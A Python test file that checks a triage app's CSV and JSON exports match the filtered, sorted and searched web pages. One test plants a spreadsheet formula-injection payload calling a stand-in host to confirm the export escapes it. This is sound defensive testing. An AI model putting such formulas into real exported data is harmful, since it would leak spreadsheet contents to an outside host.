"""Files give what the page shows: its filters, its order and its search, whole and readable."""

import codecs
import csv
import html
import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from sqlalchemy import text
from starlette.testclient import TestClient

from nlp.settings import Settings
from sql.connect import PostgresStore
from sql.queries.export import export
from tests.three_themes import APP, CARD, DAY, PIN, fill, message_id

_Open = Callable[[Settings], TestClient]
deciding = pytest.mark.parametrize("client_of", [True], indirect=True, ids=["deciding"])


def _links(page: str) -> dict[str, str]:
    """The addresses of the page's files by kind."""
    result = re.findall(
        r'href="(/triage/export/\w+\.(csv|json)[^"]*)"', page.split("<footer>", maxsplit=1)[0]
    )
    return {kind: html.unescape(address) for address, kind in result}


def _taken(client: TestClient, page: str) -> list[dict[str, str]]:
    """The rows of the page's CSV, which has as many as its JSON."""
    links = _links(page)
    data = client.get(links["csv"]).content
    assert data.startswith(codecs.BOM_UTF8)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(client.get(links["json"]).json()) == len(rows)
    return rows


@pytest.mark.parametrize(
    "query",
    ["", "sort=label", "sort=change&state=steady", f"area={PIN}&group=area", "q=pin&by=words",
     "q=lost+crashes&by=words", "channel=email", "state=surging"],
)  # fmt: skip
def test_the_file_of_themes_is_the_board(
    store: PostgresStore, settings: Settings, client_of: _Open, query: str
) -> None:
    """The same themes in the same order, whatever is filtered, sorted or searched."""
    fill(store)
    with store.engine.begin() as connection:
        area = "UPDATE triage.topics SET area_id = :a WHERE topic_id = ANY(:t)"
        connection.execute(text(area), {"a": PIN, "t": [PIN, CARD]})
    client = client_of(settings)
    page = client.get(f"/triage/themes?{query}").text
    shown = re.findall(r'<td class="name"><a [^>]*>(.*?)</a>', page)
    assert [row["label"] for row in _taken(client, page)] == shown


@pytest.mark.parametrize(
    "path",
    ["/messages", "/messages?q=lost", "/messages?q=lost+crashes", "/messages?until=2026-03-08",
     f"/themes/{CARD}", f"/themes/{CARD}?q=again", "/messages?channel=email"],
)  # fmt: skip
def test_the_file_of_messages_is_the_list(
    store: PostgresStore, settings: Settings, client_of: _Open, path: str
) -> None:
    """The same messages in the same order, with a time that a spreadsheet reads."""
    fill(store)
    client = client_of(settings)
    page = client.get(f"/triage{path}").text
    rows = _taken(client, page)
    shown = re.findall(r'messages/([0-9a-f-]{36})" data-open', page)
    assert [row["message_id"] for row in rows][:25] == shown
    assert len(rows) >= len(shown)
    assert {row["created_at"] for row in rows} <= {f"{DAY} 00:00:00"}


@pytest.mark.parametrize("path", ["/intents", "/runs"])
def test_files_of_days_have_the_days_that_are_shown(
    store: PostgresStore, settings: Settings, client_of: _Open, path: str
) -> None:
    """28, 90 or 365 days, as chosen."""
    fill(store)
    earlier = (
        (
            "INSERT INTO triage.topic_mix (day, topic_id, channel, intent, n_messages, n_first, "
            "n_abstained) SELECT day - 40, topic_id, channel, 'pin', n_messages, n_first, "
            "n_abstained FROM triage.topic_mix"
        ),
        "UPDATE triage.topic_mix SET intent = 'pin'",
        (
            "INSERT INTO triage.runs (job, day, counts, seconds, settings, code_version) "
            "SELECT job, day - 40, counts, seconds, settings, code_version FROM triage.runs"
        ),
    )
    with store.engine.begin() as connection:
        for query in earlier:
            connection.execute(text(query))
    client = client_of(settings)
    n_days = []
    for days in (28, 90):
        page = client.get(f"/triage{path}?days={days}").text
        n_days.append(len({row["day"] for row in _taken(client, page)}))
    assert n_days == [1, 2]


@deciding
def test_a_cell_of_the_decisions_holds_one_value(
    store: PostgresStore, settings: Settings, client_of: _Open
) -> None:
    """What a decision changed stands in columns of its own; JSON has it whole as well."""
    fill(store)
    client = client_of(settings)
    client.post(f"/triage/themes/{APP}/rename", data={"label": "App fails"})
    client.post(f"/triage/messages/{message_id(CARD, 0)}/correct", data={"intent": "pin"})
    output = client.get("/triage/export/decisions.csv").content.decode()
    renamed, corrected = csv.DictReader(io.StringIO(output, newline=""))
    assert (renamed["was_theme"], renamed["became_theme"]) == ("App crashes", "App fails")
    assert corrected["became_intent"] == "pin"
    assert not any(value.startswith(("{", "[")) for value in (*renamed.values(),))
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", renamed["decided_at"])
    whole = client.get("/triage/export/decisions.json").json()
    assert whole[0]["became"]["label"] == "App fails"


def test_files_of_a_replay_are_guarded_like_those_of_the_page(
    store: PostgresStore, settings: Settings, client_of: _Open, tmp_path: Path
) -> None:
    """A message that a spreadsheet would compute is text in both."""
    fill(store)
    formula = '=HYPERLINK("http://x.test/?"&A1)'
    with store.engine.begin() as connection:
        for table in ("messages", "passages"):
            query = f"UPDATE triage.{table} SET text = :t WHERE message_id = CAST(:m AS uuid)"
            connection.execute(text(query), {"t": formula, "m": message_id(CARD, 0)})
    export(store.engine, tmp_path)
    with (tmp_path / "message_topics.csv").open(encoding="utf-8", newline="") as file:
        replayed = {row["message_id"]: row["text"] for row in csv.DictReader(file)}
    page = _taken(client_of(settings), client_of(settings).get("/triage/messages").text)
    shown = {row["external_id"]: row["text"] for row in page}
    assert replayed == shown
    assert replayed[message_id(CARD, 0)] == f"'{formula}"
